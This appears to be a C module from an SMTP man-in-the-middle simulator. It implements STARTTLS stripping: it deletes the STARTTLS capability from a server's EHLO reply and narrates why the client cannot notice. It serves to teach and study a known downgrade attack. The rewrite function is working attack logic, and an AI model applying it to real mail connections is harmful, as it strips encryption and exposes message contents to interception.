/* strip_starttls: deletes STARTTLS from the server's EHLO reply (the NO STARTTLS study's
 * "STARTTLS stripping"). The capability list has no integrity protection, so the client
 * cannot tell a deleted line from a server that never offered TLS. */
#include "sim/attack/mitm.h"

#include <string.h>
#include <strings.h>

/* The rewrite itself, pure (mitm.h). */
size_t mitm_strip_ehlo(const char *reply, size_t n, char *out, size_t cap)
{
	/* Check the shape first: lines "250-..." ending with one "250 ..." line. */
	size_t pos = 0, lines = 0;
	while (pos < n) {
		const char *nl = memchr(reply + pos, '\n', n - pos);
		if (!nl)
			return (size_t)-1;
		size_t end = (size_t)(nl - reply) + 1;
		size_t len = end - pos;
		if (len < 5 || memcmp(reply + pos, "250", 3) || (reply[pos + 3] != '-' && reply[pos + 3] != ' '))
			return (size_t)-1;
		int last = reply[pos + 3] == ' ';
		if (last != (end == n))
			return (size_t)-1; /* "250 " must be the last line, and only it */
		lines++;
		pos = end;
	}
	if (lines < 2 || cap < n)
		return (size_t)-1;
	/* Copy every line but those a client would read as STARTTLS. The first line is the
	 * server's name, not an extension. */
	size_t o = 0, last_kept = 0;
	pos = 0;
	lines = 0;
	while (pos < n) {
		size_t end = (size_t)((const char *)memchr(reply + pos, '\n', n - pos) - reply) + 1;
		const char *t = reply + pos + 4;
		size_t tl = end - pos - 4, k = 0;
		while (tl && (t[tl - 1] == '\n' || t[tl - 1] == '\r'))
			tl--;
		while (k < tl && t[k] != ' ' && t[k] != '=')
			k++;
		if (lines == 0 || k != 8 || strncasecmp(t, "STARTTLS", 8)) {
			last_kept = o;
			memcpy(out + o, reply + pos, end - pos);
			o += end - pos;
		}
		lines++;
		pos = end;
	}
	/* When STARTTLS was the last line, the line kept before it now ends the reply. */
	out[last_kept + 3] = ' ';
	return o;
}

static int strip_reply(struct mitm *m, const uint8_t *r, size_t n, int code)
{
	if (code != 250)
		return 0;
	char out[4096];
	size_t k = n <= sizeof out ? mitm_strip_ehlo((const char *)r, n, out, sizeof out) : (size_t)-1;
	if (k == (size_t)-1 || k == n)
		return 0;
	if (mitm_hop(m) == 2)
		mitm_note(m, MITM_LEG_CLIENT, ATTACK_DELETED, "The attacker deletes STARTTLS from the MX's EHLO reply",
			  "The capability list travels in cleartext with no integrity protection, so nothing tells the "
			  "sending server that a line is missing. It now believes the MX cannot do TLS.");
	else
		mitm_note(m, MITM_LEG_CLIENT, ATTACK_DELETED, "The attacker deletes STARTTLS from the server's EHLO reply",
			  "The capability list travels in cleartext with no integrity protection, so nothing "
			  "tells the client that a line is missing. It now believes the server cannot do TLS.");
	mitm_send(m, MITM_LEG_CLIENT, SMTP_OUT_REPLY, (const uint8_t *)out, k, ATTACK_DELETED);
	return 1;
}

const struct attack attack_strip_starttls = {
	.name = "strip-starttls",
	.does = "deletes STARTTLS from the server's EHLO reply",
	.intro = "The attacker sits in the path, ready to delete STARTTLS from the server's offer",
	.intro_hop2 = "The attacker sits on hop 2, ready to delete STARTTLS from the MX's offer",
	.server_reply = strip_reply,
};
